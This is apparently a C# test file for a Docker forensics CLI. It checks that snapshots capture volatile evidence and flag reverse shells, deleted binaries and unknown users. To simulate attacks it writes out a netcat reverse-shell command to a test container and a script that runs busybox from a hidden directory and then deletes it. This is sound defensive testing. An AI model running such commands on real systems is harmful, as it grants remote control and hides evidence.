using System.Formats.Tar;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using DockerIR.Core.Case;
using DockerIR.Core.Engine;
using DockerIR.Testing;

namespace DockerIR.Cli.Tests;

/// <summary>
/// What dies with the kill, read from the engine host's /proc while the container is frozen, through the built CLI
/// and the real engine: a program deleted after it started, a reverse shell to a second container, a marker in a
/// process's memory. The capture must not change the container's diff or its layer.
/// </summary>
public sealed class VolatileCaptureTests(BusyboxFixture busybox) : IClassFixture<BusyboxFixture>, IDisposable
{
    private readonly string workDir = Directory.CreateTempSubdirectory("dockerir-cli-volatile-").FullName;

    private async Task<string> StartAsync(string stem, string script, string? user = null, IReadOnlyList<string>? networks = null)
    {
        var spec = busybox.Shell(script) with { User = user };
        var id = await busybox.Engine.CreateContainerAsync(spec, busybox.Resources.Name(stem), CancellationToken.None);
        foreach (var network in networks ?? [])
        {
            await busybox.Engine.ConnectNetworkAsync(network, id, [], CancellationToken.None);
        }

        await busybox.Engine.StartAsync(id, CancellationToken.None);
        return id;
    }

    /// <summary>Waits until the container's processes (docker top) include one whose command is exactly <paramref name="command"/>.</summary>
    private async Task WaitForProcessAsync(string id, string command)
    {
        for (var i = 0; ; i++)
        {
            var top = await busybox.Engine.GetProcessesAsync(id, CancellationToken.None);
            var cmd = top.Titles.ToList().IndexOf("CMD");
            if (top.Processes.Any(p => p[cmd] == command))
            {
                return;
            }

            Assert.True(i < 150 && (await busybox.Engine.InspectContainerAsync(id, CancellationToken.None)).State.Running, $"'{command}' never ran in {id}");
            await Task.Delay(100);
        }
    }

    private async Task<(string CaseDir, JsonElement Snapshot)> SnapshotAsync(string id, string stem, params string[] extra)
    {
        var caseDir = Path.Combine(workDir, stem);
        var result = await ProcessRunner.DockerIRAsync(["snapshot", id, "--case-dir", caseDir, "--json", .. extra]);
        CliAssert.Success(result);
        return (caseDir, JsonDocument.Parse(result.StdOut).RootElement.Clone());
    }

    /// <summary>The container's address on a network, as the docker CLI reports it.</summary>
    private static async Task<string> IpAsync(string id, string network)
    {
        var result = await ProcessRunner.DockerAsync("inspect", "-f", $"{{{{(index .NetworkSettings.Networks \"{network}\").IPAddress}}}}", id);
        Assert.Equal(0, result.ExitCode);
        return result.StdOut.Trim();
    }

    private static JsonElement Json(string caseDir, string file) =>
        JsonDocument.Parse(File.ReadAllText(Path.Combine(caseDir, file))).RootElement.Clone();

    private static IEnumerable<JsonElement> Findings(string caseDir, string rule) =>
        Json(caseDir, "findings.json").GetProperty("findings").EnumerateArray().Where(f => f.GetProperty("rule").GetString() == rule);

    /// <summary>The upper directory's every path with its type, size, mode and mtime: what the capture must leave untouched.</summary>
    private static async Task<string> LayerListingAsync(string upperDir)
    {
        var find = await ProcessRunner.RunAsync("find", [upperDir, "-printf", "%P %y %s %m %T@\\n"]);
        Assert.Equal(0, find.ExitCode);
        return string.Join('\n', find.StdOut.Split('\n').Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task DeletedProgram_IsRecoveredThroughTheProcess_HashedFlaggedAndFoundHigh_WithoutChangingTheLayer()
    {
        // busybox copied to a hidden place and run through a link named after an applet, then both deleted.
        var id = await StartAsync("deleted", """
            mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/m && ln -s m /tmp/.x/sleep
            /tmp/.x/sleep 3600 &
            sleep 1; rm -f /tmp/.x/m /tmp/.x/sleep
            exec sleep 3601
            """);
        await WaitForProcessAsync(id, "sleep 3601");
        var inspect = await busybox.Engine.InspectContainerAsync(id, CancellationToken.None);
        var upper = inspect.GraphDriver.Data["UpperDir"];
        var diffBefore = (await ProcessRunner.DockerAsync("diff", id)).StdOut;
        var layerBefore = await LayerListingAsync(upper);

        var (caseDir, snapshot) = await SnapshotAsync(id, "deleted");

        Assert.Equal(diffBefore, (await ProcessRunner.DockerAsync("diff", id)).StdOut);
        Assert.Equal(layerBefore, await LayerListingAsync(upper));
        Assert.DoesNotContain("/tmp/.x/m", diffBefore, StringComparison.Ordinal);
        var custody = await CustodyLog.ReadAsync(Path.Combine(caseDir, "custody.jsonl"), CancellationToken.None);
        CustodyAssert.SnapshotOrder(custody, hostVolatile: true);
        Assert.True(Json(caseDir, ProcessesRecord.FileName).GetProperty("whileFrozen").GetBoolean());
        Assert.Equal(1, snapshot.GetProperty("volatile").GetProperty("deletedPrograms").GetInt32());

        var original = Convert.ToHexStringLower(SHA256.HashData(await File.ReadAllBytesAsync("/bin/busybox")));
        var processes = Json(caseDir, ProcessesRecord.FileName);
        var dropped = processes.GetProperty("processes").EnumerateArray().Single(p => p.GetProperty("exe").GetString() == "/tmp/.x/m");
        Assert.True(dropped.GetProperty("exeDeleted").GetBoolean());
        Assert.Equal(original, dropped.GetProperty("programSha256").GetString());
        var program = processes.GetProperty("programs").EnumerateArray().Single(p => p.GetProperty("paths").EnumerateArray().Any(x => x.GetString() == "/tmp/.x/m"));
        Assert.True(program.GetProperty("deleted").GetBoolean());

        // The bytes themselves are in programs.tar under the member processes.json names, and hash to the original.
        await using (var file = File.OpenRead(Path.Combine(caseDir, ProcessesRecord.ProgramsTar)))
        await using (var tar = new TarReader(file))
        {
            TarEntry? entry;
            string? found = null;
            while ((entry = await tar.GetNextEntryAsync()) is not null)
            {
                if (entry.Name == program.GetProperty("member").GetString())
                {
                    found = Convert.ToHexStringLower(await SHA256.HashDataAsync(entry.DataStream!));
                }
            }

            Assert.Equal(original, found);
        }

        CliAssert.Success(await ProcessRunner.DockerIRAsync(["extract", caseDir]));
        var finding = Assert.Single(Findings(caseDir, "process.deleted-program"));
        Assert.Equal("high", finding.GetProperty("severity").GetString());
        Assert.Equal("/tmp/.x/m", finding.GetProperty("path").GetString());
        Assert.Contains(Findings(caseDir, "process.temp-program"), f => f.GetProperty("path").GetString() == "/tmp/.x/m");
        CliAssert.Success(await ProcessRunner.DockerIRAsync(["bundle", caseDir]));
        var verify = await ProcessRunner.DockerIRAsync(["verify", caseDir + ".tar.gz"]);
        CliAssert.Success(verify);
        Assert.Contains("OK:", verify.StdOut, StringComparison.Ordinal);

        var show = await ProcessRunner.DockerIRAsync(["show", caseDir, "--process", dropped.GetProperty("hostPid").GetInt32().ToString(System.Globalization.CultureInfo.InvariantCulture)]);
        CliAssert.Success(show);
        Assert.Contains("/tmp/.x/m", show.StdOut, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ReverseShell_ToASecondContainer_HasBothEndsAndItsHolder_AndIsFound()
    {
        var network = busybox.Resources.Name("net");
        CliAssert.Success(await ProcessRunner.DockerAsync("network", "create", "--label", $"{TestResources.TestLabel}=1",
            "--label", $"{TestResources.RunLabel}={busybox.Resources.RunId}", network));
        var ids = new List<string>();
        try
        {
            // The listener keeps its side open (its stdin never ends); the suspect hands it a shell.
            // A new listener whenever the last one was taken (a bind fails while one listens), so a second client can connect too.
            var listener = await StartAsync("listener", "while true; do (sleep 3600 | nc -l -p 4444 &); sleep 0.3; done", networks: [network]);
            ids.Add(listener);
            var listenerIp = await IpAsync(listener, network);
            var suspect = await StartAsync("revshell", $"(until nc {listenerIp} 4444 -e /bin/sh; do sleep 0.2; done) & exec sleep 3600", networks: [network]);
            ids.Add(suspect);
            await WaitForProcessAsync(suspect, "/bin/sh");
            var suspectIp = await IpAsync(suspect, network);

            var (caseDir, _) = await SnapshotAsync(suspect, "revshell");

            var sockets = Json(caseDir, ProcessesRecord.SocketsFile).GetProperty("sockets").EnumerateArray().ToList();
            var connection = Assert.Single(sockets, s => s.GetProperty("state").GetString() == "ESTABLISHED" && s.GetProperty("remotePort").GetInt32() == 4444);
            Assert.Equal("tcp", connection.GetProperty("protocol").GetString());
            Assert.Equal(suspectIp, connection.GetProperty("localAddress").GetString());
            Assert.True(connection.GetProperty("localPort").GetInt32() > 0);
            Assert.Equal(listenerIp, connection.GetProperty("remoteAddress").GetString());
            var holders = connection.GetProperty("holders").EnumerateArray().ToList();
            Assert.Contains(holders, h => h.GetProperty("name").GetString() == "sh" && h.GetProperty("fd").GetInt32() == 0);
            var shellPid = holders[0].GetProperty("hostPid").GetInt32();

            CliAssert.Success(await ProcessRunner.DockerIRAsync(["extract", caseDir]));
            var finding = Assert.Single(Findings(caseDir, "process.reverse-shell"));
            Assert.Equal("high", finding.GetProperty("severity").GetString());
            Assert.Contains($"pid {shellPid}", finding.GetProperty("why").GetString(), StringComparison.Ordinal);
            Assert.Contains($"{listenerIp}:4444", finding.GetProperty("why").GetString(), StringComparison.Ordinal);
            // A private peer is not "out to the internet".
            Assert.Empty(Findings(caseDir, "process.outbound-public"));
            // The report's finding links to the shell's row in its processes' table.
            var report = await File.ReadAllTextAsync(Path.Combine(caseDir, "report.html"));
            Assert.Contains($"<tr id=\"pid-{shellPid}\">", report, StringComparison.Ordinal);
            Assert.Matches($"<td><span class=\"code\">process\\.reverse-shell</span></td><td><a href=\"#pid-{shellPid}\">", report);

            // Where else? Another container connected to the same listener is found by its connection; one that is not, is not.
            var other = await StartAsync("peer", $"sleep 3600 | nc {listenerIp} 4444", networks: [network]);
            ids.Add(other);
            var quiet = await StartAsync("quiet", "exec sleep 3600", networks: [network]);
            ids.Add(quiet);
            await WaitForProcessAsync(other, $"nc {listenerIp} 4444");
            JsonElement hunted = default;
            for (var i = 0; i < 50; i++)
            {
                var hunt = await ProcessRunner.DockerIRAsync(["hunt", "--case", caseDir, other, quiet, "--json"]);
                CliAssert.Success(hunt);
                hunted = JsonDocument.Parse(hunt.StdOut).RootElement.Clone();
                if (hunted.GetProperty("targets").GetArrayLength() > 0)
                {
                    break;
                }

                await Task.Delay(200); // the client connects once the listener is back
            }

            Assert.Equal([other], hunted.GetProperty("targets").EnumerateArray().Select(t => t.GetString()!).ToList());
            var peer = Assert.Single(hunted.GetProperty("containers")[0].GetProperty("matches").EnumerateArray());
            Assert.Equal("peer", peer.GetProperty("kind").GetString());
            Assert.Contains($"-> {listenerIp}:4444", peer.GetProperty("detail").GetString(), StringComparison.Ordinal);
        }
        finally
        {
            foreach (var id in ids)
            {
                await busybox.Engine.RemoveContainerAsync(id, force: true, removeVolumes: true, CancellationToken.None);
            }

            await ProcessRunner.DockerAsync("network", "rm", network);
        }
    }

    [Fact]
    public async Task Memory_OfAProcess_HoldsItsMarker_VerifiesAndACapBelowItsSizeIsAGap()
    {
        var marker = "dockerir-marker-" + Guid.NewGuid().ToString("N");
        // The marker lives only in the environment sleep was started with (its stack), not in any file.
        var id = await StartAsync("memory", $"exec env DOCKERIR_MARK={marker} sleep 3602");
        await WaitForProcessAsync(id, "sleep 3602");
        var pid = (await busybox.Engine.InspectContainerAsync(id, CancellationToken.None)).State.Pid.ToString(System.Globalization.CultureInfo.InvariantCulture);

        var (caseDir, _) = await SnapshotAsync(id, "memory", "--memory", pid);

        var dump = Assert.Single(Json(caseDir, ProcessesRecord.FileName).GetProperty("memory").EnumerateArray());
        Assert.False(dump.GetProperty("truncated").GetBoolean());
        var mem = await File.ReadAllBytesAsync(Path.Combine(caseDir, dump.GetProperty("file").GetString()!));
        Assert.True(mem.AsSpan().IndexOf(Encoding.ASCII.GetBytes(marker)) >= 0, "the marker is not in the dump");
        Assert.Equal(dump.GetProperty("sha256").GetString(), Convert.ToHexStringLower(SHA256.HashData(mem)));
        var custody = await CustodyLog.ReadAsync(Path.Combine(caseDir, "custody.jsonl"), CancellationToken.None);
        CustodyAssert.SnapshotOrder(custody, hostVolatile: true);
        CliAssert.Success(await ProcessRunner.DockerIRAsync(["extract", caseDir]));
        CliAssert.Success(await ProcessRunner.DockerIRAsync(["bundle", caseDir]));
        CliAssert.Success(await ProcessRunner.DockerIRAsync(["verify", caseDir + ".tar.gz"]));

        // The same process with a cap below its size: the dump is cut, and the case says it is not complete.
        var capped = Path.Combine(workDir, "capped");
        CliAssert.Success(await ProcessRunner.DockerIRAsync(["snapshot", id, "--case-dir", capped, "--memory", pid, "--memory-max", "64K"]));
        var cut = Assert.Single(Json(capped, ProcessesRecord.FileName).GetProperty("memory").EnumerateArray());
        Assert.True(cut.GetProperty("truncated").GetBoolean());
        Assert.Equal(64 * 1024, cut.GetProperty("bytes").GetInt64());
        Assert.True(mem.Length > 64 * 1024);
        var extract = await ProcessRunner.DockerIRAsync(["extract", capped]);
        Assert.Equal((int)ExitCode.PartialEvidence, extract.ExitCode);
        var gaps = Json(capped, "manifest.json").GetProperty("gaps").EnumerateArray().Select(g => g.GetString()!).ToList();
        Assert.Contains(gaps, g => g.StartsWith(ProcessesRecord.FileName + ": memory: pid " + pid, StringComparison.Ordinal) && g.Contains("cap", StringComparison.Ordinal));
        var verify = await ProcessRunner.DockerIRAsync(["bundle", capped]);
        Assert.Equal((int)ExitCode.PartialEvidence, verify.ExitCode);
    }

    [Fact]
    public async Task Respond_PassesMemoryToItsSnapshot_AndABadValueIsAUsageErrorBeforeAnythingRuns()
    {
        var id = await StartAsync("respond-memory", "exec sleep 3605");
        await WaitForProcessAsync(id, "sleep 3605");

        var bad = await ProcessRunner.DockerIRAsync(["respond", id, "--no-redeploy", "--out-dir", workDir, "--memory", "init"]);
        CliAssert.OneLineError(bad, ExitCode.Usage);
        Assert.False((await busybox.Engine.InspectContainerAsync(id, CancellationToken.None)).State.Paused);

        var result = await ProcessRunner.DockerIRAsync(["respond", id, "--no-redeploy", "--out-dir", workDir, "--memory", "all", "--json"]);

        CliAssert.Success(result);
        var caseDir = JsonDocument.Parse(result.StdOut).RootElement.GetProperty("caseDir").GetString()!;
        var dump = Assert.Single(Json(caseDir, ProcessesRecord.FileName).GetProperty("memory").EnumerateArray());
        Assert.True(dump.GetProperty("bytes").GetInt64() > 0);
        Assert.True(JsonDocument.Parse(result.StdOut).RootElement.GetProperty("evidenceComplete").GetBoolean());
    }

    [Fact]
    public async Task UserTheImageDoesNotDefine_IsFound_AndOneItDefinesIsNot()
    {
        var stranger = await StartAsync("stranger", "exec sleep 3603", user: "4242:4242");
        var known = await StartAsync("known", "exec sleep 3604", user: "33:33");
        await WaitForProcessAsync(stranger, "sleep 3603");
        await WaitForProcessAsync(known, "sleep 3604");

        var (strangerCase, _) = await SnapshotAsync(stranger, "stranger");
        var (knownCase, _) = await SnapshotAsync(known, "known");
        CliAssert.Success(await ProcessRunner.DockerIRAsync(["extract", strangerCase]));
        CliAssert.Success(await ProcessRunner.DockerIRAsync(["extract", knownCase]));

        Assert.Contains(Json(strangerCase, ProcessesRecord.FileName).GetProperty("imageUsers").EnumerateArray(), u => u.GetProperty("name").GetString() == "www-data");
        var finding = Assert.Single(Findings(strangerCase, "process.undefined-user"));
        Assert.Contains("uid 4242", finding.GetProperty("why").GetString(), StringComparison.Ordinal);
        Assert.Empty(Findings(knownCase, "process.undefined-user"));
    }

    public void Dispose() => Directory.Delete(workDir, recursive: true);
}
